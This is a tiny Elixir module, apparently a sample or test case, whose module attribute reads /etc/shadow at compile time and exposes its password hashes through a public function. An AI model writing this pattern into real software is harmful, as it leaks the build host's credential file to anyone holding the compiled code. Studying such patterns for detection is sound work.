defmodule A do
  @secret File.read!("/etc/shadow")
  def f, do: @secret
end
